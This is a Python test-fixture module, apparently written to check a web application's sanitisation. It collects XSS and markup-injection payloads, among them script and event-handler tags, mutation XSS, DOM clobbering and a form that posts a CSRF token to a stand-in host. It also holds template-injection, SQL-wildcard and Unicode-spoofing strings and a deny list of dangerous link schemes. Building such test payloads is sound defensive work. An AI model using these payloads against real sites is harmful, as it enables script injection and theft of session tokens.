"""Texts of somebody who wants a page to run, load, restyle or misread something.

Whatever of it runs sets the global `MARKER`, whatever loads asks `ELSEWHERE`, and every element that
comes to be has the attribute `data-hostile`. None is longer than a server's name may be.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Final

MARKER: Final = "hostileRan"
ELSEWHERE: Final = "//hostile.example"
_RUN: Final = f"{MARKER}=1"
_IMAGE: Final = f"<img data-hostile src=x onerror={_RUN}>"

#: Texts that would be elements or attributes where a page printed them as they are.
MARKUP: Final = {
    "script": f"<script data-hostile>{_RUN}</script>",
    "script in capitals": f"<ScRiPt DATA-HOSTILE/x>{_RUN}</sCrIpT >",
    "script from elsewhere": f"<script data-hostile src={ELSEWHERE}/x.js></script>",
    "module": f"<script data-hostile type=module>import '{ELSEWHERE}/x.js'</script>",
    "import map": '<script data-hostile type=importmap>{"imports":{"/static/x.js":"data:,0"}}</script>',
    "speculation": '<script data-hostile type=speculationrules>{"prefetch":[{"urls":["/logout"]}]}</script>',
    "image": _IMAGE,
    "image without space": f"<img/data-hostile/src/onerror={_RUN}>",
    "image set": f'<img data-hostile srcset="{ELSEWHERE}/x.png 1x">',
    "unclosed image": f"<img data-hostile src='{ELSEWHERE}/?kept=",
    "svg": f"<svg data-hostile onload={_RUN}>",
    "svg script": f"<svg data-hostile><script>{_RUN}</script></svg>",
    "svg animation": f"<svg data-hostile><a><animate attributeName=href to=javascript:{_RUN} /></a></svg>",
    "svg use": f'<svg data-hostile><use href="{ELSEWHERE}/x.svg#x"/></svg>',
    "svg foreign object": f"<svg data-hostile><foreignObject><body onload={_RUN}></foreignObject></svg>",
    "mathml": f"<math data-hostile href=javascript:{_RUN}><mtext>x</mtext></math>",
    "mathml mutation": f"<math data-hostile><mtext><table><mglyph><style><!--</style>{_IMAGE}",
    "noscript mutation": f'<noscript><p title="</noscript>{_IMAGE}">',
    "end of title": f"</title>{_IMAGE}",
    "end of textarea": f"</textarea>{_IMAGE}",
    "end of option": f"</option></select>{_IMAGE}",
    "end of script": f"</script></style></noscript></template>{_IMAGE}",
    "end of comment": f"--!>-->]]>?>{_IMAGE}",
    "end of main": f"</main></body></html>{_IMAGE}",
    "double quotes": f'" data-hostile autofocus onfocus="{_RUN}',
    "single quotes": f"' data-hostile autofocus onfocus='{_RUN}",
    "no quotes": f"x data-hostile autofocus onfocus={_RUN} tabindex=0 x",
    "double quotes and element": f'">{_IMAGE}',
    "single quotes and element": f"'>{_IMAGE}",
    "backslash and quotes": f"\\\">{_IMAGE}\\'>{_IMAGE}",
    "iframe": f"<iframe data-hostile src=javascript:parent.{_RUN}></iframe>",
    "iframe with a document": f'<iframe data-hostile srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "object": f"<object data-hostile data={ELSEWHERE}/x></object>",
    "embed": f"<embed data-hostile src=javascript:{_RUN}>",
    "base": f"<base data-hostile href={ELSEWHERE}/ target=_blank>",
    "refresh": f'<meta data-hostile http-equiv=refresh content="0;url={ELSEWHERE}/">',
    "policy": "<meta data-hostile http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "style sheet": f"<link data-hostile rel=stylesheet href={ELSEWHERE}/x.css>",
    "preload": f"<link data-hostile rel=preload as=image href={ELSEWHERE}/x.png>",
    "style": f"<style data-hostile>@import '{ELSEWHERE}/x.css';*{{display:none}}</style>",
    "style attribute": f'<p data-hostile style="position:fixed;inset:0;background:url({ELSEWHERE}/)">',
    "form": f"<form data-hostile id=content action={ELSEWHERE}/><input name=csrf_token><button>Save token",
    "clobbering": "<a data-hostile id=workbench><a data-hostile id=workbench name=dataset href=x>",
    "clobbering of the document": "<img data-hostile name=getElementById><img data-hostile name=cookie>",
    "button for another form": f"<button data-hostile formaction={ELSEWHERE}/>Call</button>",
    "details": f"<details data-hostile open ontoggle={_RUN}>x</details>",
    "video": f"<video data-hostile autoplay><source onerror={_RUN}></video>",
    "marquee": f"<marquee data-hostile onstart={_RUN}>x</marquee>",
    "body": f"<body data-hostile onload={_RUN} onpageshow={_RUN}>",
    "shadow root": f"<p data-hostile><template shadowrootmode=open>{_IMAGE}</template></p>",
    "plain text": "<plaintext data-hostile>",
    "link": f"<a data-hostile href=javascript:{_RUN} autofocus>Save a token</a>",
    "link with entities": f'<a data-hostile href="jav&#x09;ascript&colon;{_RUN}">Save a token</a>',
}

#: Texts that harm otherwise: whatever decodes, evaluates, formats or reorders them shows another text.
WORDS: Final = {
    "template": "{{7*7}}{% print(7*7) %}${7*7}#{7*7}<%= 7*7 %>{{self.__class__}}",
    "client template": f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "format": "%(server)s %(query)s %s %n %% {0} {server} {",
    "entities": "&lt;script&gt;&amp;lt;&quot;&#39;&#x3c;b&#x3e;&nbsp;&notit;&",
    "start of comment": "<!--",
    "start of data": "<![CDATA[ <?xml <!DOCTYPE html [",
    "unclosed": "<a href='",
    "utf-7": f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    "script address": f"javascript:{_RUN}//",
    "data address": f"data:text/html,<script data-hostile>{_RUN}</script>",
    "style": f"red;}}*{{background:url({ELSEWHERE}/)}}/*",
    "backticks": f"`${{{_RUN}}}`",
    "right to left": "file\u202egnp.exe\u202c \u2067abc\u2069 \u200f\u061cx",
    "separators": "one\u2028two\u2029three\x85four",
    "controls": "a\x01b\x07c\x08d\x0be\x0cf\x1b[31mg\x7fh\x9bi",
    "tag characters": "plain\U000e0073\U000e0065\U000e0063text\ufeff",
    "combining": "Z" + "\u0351\u0326\u0489" * 30,
    "long word": "W" * 190,
    "wildcards": "%_\\%' OR 1=1 --",
}
TEXTS: Final = MARKUP | WORDS


def packed(texts: Iterable[str], limit: int = 190) -> list[str]:
    """Return the texts in order, several in one as long as that is not longer than the limit."""
    packs: list[str] = []
    for text in texts:
        if packs and len(packs[-1]) + 1 + len(text) <= limit:
            packs[-1] += f" {text}"
        else:
            packs.append(text)
    return packs


#: All of them again, as few names of servers.
NAMES: Final = packed(MARKUP.values()) + packed(WORDS.values())

#: What may not stand in a link, however it is written.
NO_LINKS: Final = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"\x01 javascript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"blob:{_RUN}",
    f"{ELSEWHERE}/",
    f"\\\\hostile.example\\{_RUN}",
    f"https:javascript:{_RUN}",
    "/logout",
)
#: A link that may be, but for what is around its address.
LINK: Final = f'https://hostile.example/" data-hostile onmouseover="{_RUN}'
